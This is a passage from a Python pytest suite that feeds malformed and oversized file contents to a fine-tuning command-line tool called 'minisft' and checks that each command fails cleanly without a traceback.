    done = minisft("prepare", "-s", "vanilla", "-m", tiny_model, "-d", data, **env)
    assert (done.returncode, "not UTF-8" in done.stderr) == (2, True), done.stderr


CONTENTS = [json.dumps(shape).encode() for shape in SHAPES] + [b"", b"{", b"\xff\xfe\x00", b"[" * 50_000, b"9" * 6000]


@attack("15")
@pytest.mark.parametrize("name", FILES)
def test_any_content_of_any_file_of_a_run_is_no_traceback(run, name, tiny_model, small_data, own_outputs):
    file = run.folder / name
    before = file.read_bytes() if file.exists() else None
    file.parent.mkdir(exist_ok=True)
    again = ("-s", "vanilla", "-m", tiny_model, "-d", small_data)
    for content in CONTENTS:
        file.write_bytes(content)
        for words in (("compare",), ("compare", "--json"), ("prepare", *again), ("train", "vanilla")):
            if words[0] == "train" and not (run.folder / "DONE").exists():
                continue
            done = minisft(*words)  # an exception that is not a UserError fails here
            assert done.returncode in (0, 1, 2), (content, words)
            assert "Traceback" not in done.stderr
    if before is not None:
        file.write_bytes(before)


@attack("15")
@pytest.mark.parametrize("name", [n for n in FILES if n.startswith(("data", "checkpoint", "run.json"))])
def test_any_content_is_evaluated_or_named(run, name):
    file = run.folder / name
    for content in (b"", b"[]", b'{"a": [1]}', b"\xff\xfe\x00", b"null", b'"x"', b"[" * 50_000):
        file.write_bytes(content)
        done = minisft("evaluate", run.folder, "--rows", 2, "--max-new-tokens", 2, "--resamples", 0)
        assert done.returncode in (0, 1, 2), content
        assert "Traceback" not in done.stderr


def test_all_of_this_holds_for_a_sound_run(run):
    assert minisft("compare").returncode == 0
    assert minisft("train", "vanilla").returncode == 0
    assert evaluate_runs([run], QUICK, say=quiet) == []
    assert list(open_sessions(run))
    assert torch.isfinite(torch.tensor(run.test_losses[3]))
